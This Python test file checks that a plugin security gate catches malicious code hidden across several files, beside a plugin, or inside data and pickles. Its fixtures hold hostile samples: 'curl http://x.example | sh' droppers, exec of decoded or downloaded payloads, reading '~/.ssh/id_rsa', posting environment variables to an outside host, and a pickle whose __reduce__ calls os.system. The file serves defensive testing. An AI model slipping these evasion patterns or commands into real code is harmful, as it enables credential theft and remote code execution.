"""Attacks on the gate: ways to hide what code does from who reads one file at a time. None of it is ever run."""

import base64
import os
import pickle

import pytest

from aetherra.plugins.self_incorporation.gate.look import look

INIT = {"p/__init__.py": ""}
CODED = base64.b64encode(b"print('payload')").decode()


class Bomb:
    def __reduce__(self):
        return os.system, ("echo never",)


ACROSS = {
    "what one file decodes, another runs": (
        "exec-of-decoded",
        {
            "p/__init__.py": "",
            "p/a.py": f"import base64\nPAYLOAD = base64.b64decode('{CODED}')\n",
            "p/b.py": "from .a import PAYLOAD\nexec(PAYLOAD)\n",
        },
    ),
    "through a module's attribute": (
        "exec-of-decoded",
        {
            "p/__init__.py": "",
            "p/a.py": f"import base64\nPAYLOAD = base64.b64decode('{CODED}')\n",
            "p/b.py": "from . import a\nexec(a.PAYLOAD)\n",
        },
    ),
    "into a function of another file": (
        "exec-of-decoded",
        {
            "p/__init__.py": f"import base64\nfrom p.tools import apply\napply(base64.b64decode('{CODED}'))\n",
            "p/tools.py": "def apply(text):\n    exec(text)\n",
        },
    ),
    "out of a function of another file": (
        "exec-of-downloaded",
        {
            "p/__init__.py": "from .net import fetch\nexec(fetch())\n",
            "p/net.py": "import urllib.request\ndef fetch():\n    return urllib.request.urlopen('http://x.example').read()\n",
        },
    ),
    "under the name of another file": (
        "exec-of-decoded",
        {
            "p/__init__.py": f"import base64\nfrom .a import tidy\ntidy(base64.b64decode('{CODED}'))\n",
            "p/a.py": "from .b import tidy\n",
            "p/b.py": "tidy = exec\n",
        },
    ),
    "a module out of another file": (
        "shell-dropper",
        {"p/__init__.py": "from .a import o\no.system('curl http://x.example | sh')\n", "p/a.py": "import os as o\n"},
    ),
    "by a star": (
        "shell-dropper",
        {
            "p/__init__.py": "from .a import *\nsystem('curl http://x.example | sh')\n",
            "p/a.py": "from os import system\n",
        },
    ),
    "imported by a call": (
        "exec-of-decoded",
        {
            "p/__init__.py": f"import base64\n__import__('p.b').b.go(base64.b64decode('{CODED}'))\n",
            "p/b.py": "def go(x):\n    exec(x)\n",
        },
    ),
    "a constant out of another file": (
        "shell-dropper",
        {
            "p/__init__.py": "from .a import TEXT\nexec(TEXT)\n",
            "p/a.py": "TEXT = \"import os; os.system('curl http://x.example | sh')\"\n",
        },
    ),
    "one file reads, another sends": (
        "credential-read",
        {
            "p/__init__.py": "from . import a, net\n",
            "p/a.py": "import os\nKEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            "p/net.py": "import socket\n",
        },
    ),
    "the second file of a package": (
        "environment-sent",
        {
            "p/__init__.py": '"""Greets."""\n',
            "p/second.py": "import os, requests\nrequests.post('http://x.example', json=dict(os.environ))\n",
        },
    ),
}
BESIDE = {
    "a module beside a plugin": (
        "exec-of-decoded",
        {
            "p.py": "from helper import PAYLOAD\nexec(PAYLOAD)\n",
            "helper.py": f"import base64\nPAYLOAD = base64.b64decode('{CODED}')\n",
        },
    ),
    "a module beside that is loaded by a call": (
        "shell-dropper",
        {
            "p.py": "m = __import__('hel' + 'per')\nm.go()\n",
            "helper.py": "import os\ndef go():\n    os.system('curl http://x.example | sh')\n",
        },
    ),
    "a package beside": (
        "shell-dropper",
        {
            "p.py": "import lib.inner\n",
            "lib/__init__.py": "",
            "lib/inner.py": "import os\nos.system('curl http://x.example | sh')\n",
        },
    ),
}
IN_DATA = {
    "text that is run": (
        "exec-of-data",
        {**INIT, "p/a.py": "exec(open('p/notes.txt').read())\n", "p/notes.txt": "x\n"},
    ),
    "text that is code": (
        "code-in-data",
        {
            **INIT,
            "p/a.py": "import sys\nexec(open(sys.argv[1]).read())\n",
            "p/logo.dat": "import os\nos.system('ls')\n",
        },
    ),
    "a docstring that is run": (
        "exec-of-data",
        {**INIT, "p/a.py": '"""import os"""\nexec(__doc__)\n'},
    ),
    "its own comments": ("exec-of-data", {**INIT, "p/a.py": "exec(open(__file__).read().split('#')[1])\n#x = 1\n"}),
    "a pickle": ("pickle-that-runs", {**INIT, "p/model.pkl": pickle.dumps(Bomb())}),
    "an old pickle": ("pickle-that-runs", {**INIT, "p/model.bin": pickle.dumps(Bomb(), 2)}),
    "a pickle without a name": ("pickle-that-runs", {**INIT, "p/weights": pickle.dumps(Bomb(), 4)}),
}


class TestAcrossFiles:
    @pytest.mark.parametrize("name", ACROSS)
    def test_what_is_torn_apart_is_not_seen(self, threats, name):
        """A package is judged as one, whatever lies in which of its files."""
        code, files = ACROSS[name]

        assert code in threats("p", files)

    @pytest.mark.parametrize("name", BESIDE)
    def test_what_lies_beside_is_not_seen(self, threats, name):
        """What a file imports from next to it counts against it."""
        code, files = BESIDE[name]

        assert code in threats("p.py", files)

    @pytest.mark.parametrize("name", IN_DATA)
    def test_code_in_data_is_not_seen(self, threats, name):
        """A file that is no source may hold code, and what runs it gives it away."""
        code, files = IN_DATA[name]

        assert code in threats("p", files)

    def test_harmless_files_make_a_threat_together(self, threats):
        """A package that decodes here, runs there and passes nothing between is none."""
        files = {
            "p/__init__.py": "from . import a, b\n",
            "p/a.py": "import base64\ndef icon():\n    return base64.b64decode('eA==')\n",
            "p/b.py": "def run(text):\n    exec(text)\n",
            "p/model.pkl": pickle.dumps({"a": [1, 2.0], "b": "os system"}),
            "p/notes.txt": "Run it, then look.\n",
        }

        assert threats("p", files) <= {"warnings"}


class TestWhatIsThere:
    def test_a_linked_file_of_a_package_is_passed_over(self, tree):
        """What a package's link leads to was not judged, so the package does not come in."""
        tree.write({"p/__init__.py": "from .a import x\n", "elsewhere.txt": "x = 1\n"})
        (tree.folder / "p" / "a.py").symlink_to(tree.folder / "elsewhere.txt")
        decision = tree.decided("p")

        assert decision.verdict == "blocked"
        assert "refused" in [ground.code for ground in decision.rationale]

    def test_a_linked_module_beside_is_passed_over(self, tree, tmp_path):
        """A link beside a plugin is not followed, and what cannot be judged is not imported."""
        (tmp_path / "evil.py").write_text("x = 1\n", encoding="utf-8")
        tree.write({"p.py": "import helper\n"})
        (tree.folder / "helper.py").symlink_to(tmp_path / "evil.py")

        assert [ground.code for ground in tree.decided("p.py").rationale if ground.against] == ["beside"]

    def test_a_folder_that_no_scan_enters_hides_a_module(self, tree):
        """A virtual environment within a package is not scanned, so nothing may be imported from it."""
        tree.write({"p/__init__.py": "from .env import a\n", "p/env/pyvenv.cfg": "", "p/env/a.py": "x = 1\n"})
        decision = tree.decided("p")

        assert decision.verdict == "blocked"
        assert any("was not indexed" in ground.text for ground in decision.rationale)

    def test_a_file_that_changed_since_the_scan_is_judged_as_it_was(self, tree):
        """The bytes that are judged are those of the item."""
        tree.write({"a.py": "x = 1\n"})
        item = tree.items()["a.py"]
        (tree.folder / "a.py").write_text("x = 2\n", encoding="utf-8")

        assert [ground.code for ground in look(item).grounds] == ["changed"]
        assert tree.gate().evaluate(item, now=1.0).verdict == "blocked"

    def test_a_file_that_became_a_pipe_is_waited_for(self, tree):
        """Nothing but a regular file is read."""
        tree.write({"a.py": "x = 1\n"})
        item = tree.items()["a.py"]
        (tree.folder / "a.py").unlink()
        os.mkfifo(tree.folder / "a.py")

        assert [ground.code for ground in look(item).grounds] == ["changed"]

    @pytest.mark.parametrize("name", ["p/a.so", "p/a.cpython-311.pyc", "p/tool"])
    def test_machine_code_comes_in_unseen(self, tree, name):
        """What nobody can read needs a person, in strict mode it does not come in."""
        tree.write({**INIT, name: b"\x7fELF\x00\x00"})

        assert tree.decided("p").verdict == "needs_approval"
        assert [ground.code for ground in tree.decided("p").rationale if ground.against] == ["opaque"]

    def test_hosts_are_not_told(self, tree):
        """Each host that the code names is the item's, with the line that names it first."""
        tree.write({"a.py": "import requests\nrequests.get('https://API.example.org:8443/x?y')\nrequests.get(u)\n"})
        seen = look(tree.items()["a.py"])

        assert seen.item.hosts == ("api.example.org",)
        assert [(host, line.line) for host, line in seen.hosts] == [("api.example.org", 2)]
        assert [line.line for line in seen.unknown] == [3]


class TestPickles:
    @pytest.mark.parametrize("protocol", range(6))
    def test_a_name_is_not_read_off_a_pickle(self, tree, protocol):
        """Of every protocol, names that were kept for later included."""
        content = pickle.dumps([Bomb(), "x", Bomb()], protocol)
        tree.write({"m.pkl": content})

        assert [finding.code for finding in look(tree.items()["m.pkl"]).item.threats][:1] == ["pickle-that-runs"]

    def test_bytes_that_are_no_pickle_stop_the_look(self, tree):
        """What cannot be read as the pickle that it is named as is said, and no more."""
        tree.write({"m.pkl": b"\x80\x04\xff\xff broken"})
        seen = look(tree.items()["m.pkl"])

        assert (seen.item.threats, seen.item.warnings) == ((), 1)


def test_what_lies_beside_an_item_is_read_without_bounds(tree, monkeypatch):
    """The item and the modules beside it share one bound of bytes, and what is beyond it is a ground against it."""
    monkeypatch.setattr("aetherra.plugins.self_incorporation.gate.look.MOST_BYTES", 1_000)
    tree.write({"a.py": "import b, c\n", "b.py": f"x = '{'-' * 700}'\n", "c.py": f"x = '{'-' * 700}'\n"})
    seen = look(tree.items()["a.py"])

    assert [(ground.code, [line.path for line in ground.lines]) for ground in seen.grounds] == [("refused", ["c.py"])]
    assert seen.looked_for == ("b", "c")


def test_a_stub_is_judged_by_the_scan_alone(tree):
    """What is Python for the scan is for the gate; what a stub imports lies beside it."""
    tree.write({**INIT, "p/q/__init__.py": "", "p/q/a.pyi": "import socket\nfrom ..b import B\nfrom .c import C\n"})
    seen = look(tree.items()["p"])

    assert (seen.item.capabilities, seen.grounds) == (("network",), ())
